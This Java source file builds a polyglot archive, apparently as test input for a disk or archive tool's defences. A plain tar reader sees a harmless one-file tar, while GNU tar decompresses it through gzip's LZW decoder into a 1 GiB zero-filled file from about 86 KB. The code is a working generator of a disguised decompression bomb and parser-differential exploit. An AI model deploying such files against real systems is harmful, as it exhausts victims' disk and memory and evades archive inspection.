package io.xenvbd.disk;

import java.io.ByteArrayOutputStream;
import java.util.HashMap;
import java.util.Map;

/**
 * A file that is two archives, as an attacker makes it (found in review): to a tar reader that
 * takes it as a plain tar, a harmless V7 archive of one empty file; to GNU tar given it as a file,
 * `compress` (.Z, LZW) data, which it unpacks (with gzip when compress is missing) into another tar
 * of one file of {@code bomb} zero bytes. It works because gzip's LZW decoder skips the rest of a
 * group of codes after a CLEAR code: the tar header's fields live in those skipped bytes.
 */
final class CompressPolyglot {
  private static final int MAX_BITS = 16;
  private static final int MAX_MAX = 1 << MAX_BITS;

  private CompressPolyglot() {}

  /** The polyglot: an 86 KB file for a 1 GiB bomb. */
  static byte[] build(long bomb, String name) {
    byte[] f = new byte[1024];
    f[0] = 0x1f; // compress magic
    f[1] = (byte) 0x9d;
    f[2] = (byte) 0x90; // block mode, 16 bits
    // group 0 (bytes 3..11): the literal 'A' (9 bits), then CLEAR (9 bits)
    f[3] = 'A';
    f[4] = 0x00;
    f[5] = 0x02;
    // every later group of nine bytes starts with CLEAR (0x00, then an odd byte): 7 free bytes each
    int k = 1;
    for (; 3 + 9 * k + 1 < 512; k++) {
      f[3 + 9 * k] = 0x00;
      f[3 + 9 * k + 1] = 0x01;
    }
    if (3 + 9 * (k - 1) != 507) throw new IllegalStateException("group layout");
    f[337] = '1'; // devminor's first byte is forced odd: make it an octal digit
    f[265] = 'a'; // uname
    f[157] = 'a'; // linkname (ignored for a regular file)
    checksum(f);
    // Bytes 512..1023, the end-of-archive block, decode as NUL literals: 256 at 9 bits, then 176
    // at 10 bits, so the stream below starts at a 10-bit group boundary.
    Bits tail = new Bits();
    tail.put(256, 10); // CLEAR at 10 bits
    tail.put(0, 70); // the decoder skips to the next 10-byte group
    tail.flush();
    int already = 1 + 256 + 176;
    Lzw body = new Lzw();
    body.bytes(new byte[512 - already]);
    body.bytes(RawTar.header(name, '0', bomb, "", RawTar.GNU));
    body.zeros(bomb + Math.floorMod(-bomb, 512) + 1024);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(f);
    out.writeBytes(tail.out.toByteArray());
    out.writeBytes(body.end());
    return out.toByteArray();
  }

  /** The V7 checksum, whose first byte must stay odd (it is the high bit of a CLEAR code). */
  private static void checksum(byte[] h) {
    long s = 8 * 0x20;
    for (int i = 0; i < 512; i++) if (i < 148 || i >= 156) s += h[i] & 0xff;
    String octal = Long.toOctalString(s);
    if ("1357".indexOf(octal.charAt(0)) < 0 || octal.length() > 7)
      throw new IllegalStateException("checksum " + octal + " cannot start an odd byte");
    for (int i = 0; i < 8; i++) h[148 + i] = i < octal.length() ? (byte) octal.charAt(i) : 0;
  }

  /** Bits written least significant first, as compress packs its codes. */
  private static final class Bits {
    final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private long acc;
    private int pending;

    void put(long value, int n) {
      while (n > 32) { // padding, always zero
        put(0, 32);
        n -= 32;
      }
      acc |= value << pending;
      pending += n;
      while (pending >= 8) {
        out.write((int) (acc & 0xff));
        acc >>>= 8;
        pending -= 8;
      }
    }

    void flush() {
      if (pending > 0) out.write((int) (acc & 0xff));
      acc = 0;
      pending = 0;
    }

    long position() {
      return out.size() * 8L + pending;
    }
  }

  /**
   * An LZW encoder that follows gzip's {@code unlzw} in block mode from just after a CLEAR code: a
   * wider code starts at a group boundary, and long runs of zeros take the longest zero string the
   * table knows at once (which is what keeps a gigabyte of zeros in 86 KB).
   */
  private static final class Lzw {
    private final Bits w = new Bits();
    private long origin;
    private int bits = 9;
    private int decoderFree = 256;
    private final Map<Long, Integer> table = new HashMap<>();
    private int next = 257;
    private final Map<Integer, Integer> zeroCode = new HashMap<>(); // run length -> code
    private final Map<Integer, Integer> zeroLength = new HashMap<>(); // code -> run length
    private int longestZeros = 1;
    private int cur = -1;

    Lzw() {
      zeroCode.put(1, 0);
      zeroLength.put(0, 1);
    }

    private void emit(int code) {
      int maxCode = bits == MAX_BITS ? MAX_MAX : (1 << bits) - 1;
      if (decoderFree > maxCode) {
        int group = bits * 8;
        w.put(0, (int) Math.floorMod(-(w.position() - origin), (long) group));
        origin = w.position();
        bits++;
      }
      w.put(code, bits);
      if (decoderFree < MAX_MAX) decoderFree++;
    }

    private void add(int prefix, int b) {
      if (next >= MAX_MAX) return;
      table.put(((long) prefix << 8) | b, next);
      Integer length = zeroLength.get(prefix);
      if (length != null && b == 0) {
        zeroLength.put(next, length + 1);
        zeroCode.put(length + 1, next);
        longestZeros = Math.max(longestZeros, length + 1);
      }
      next++;
    }

    void bytes(byte[] data) {
      for (byte x : data) {
        int b = x & 0xff;
        if (cur < 0) {
          cur = b;
          continue;
        }
        Integer n = table.get(((long) cur << 8) | b);
        if (n != null) {
          cur = n;
        } else {
          emit(cur);
          add(cur, b);
          cur = b;
        }
      }
    }

    void zeros(long n) {
      while (n > 0) {
        if (cur < 0) {
          cur = 0;
          n--;
          continue;
        }
        Integer length = zeroLength.get(cur);
        if (length != null) {
          if (length < longestZeros) {
            int take = (int) Math.min(longestZeros - length, n);
            cur = zeroCode.get(length + take);
            n -= take;
            continue;
          }
          emit(cur);
          add(cur, 0);
          cur = 0;
          n--;
          int take = (int) Math.min(longestZeros - 1, n);
          if (take > 0) {
            cur = zeroCode.get(1 + take);
            n -= take;
          }
          continue;
        }
        Integer c = table.get((long) cur << 8);
        if (c != null) {
          cur = c;
        } else {
          emit(cur);
          add(cur, 0);
          cur = 0;
        }
        n--;
      }
    }

    byte[] end() {
      if (cur >= 0) emit(cur);
      w.flush();
      return w.out.toByteArray();
    }
  }
}
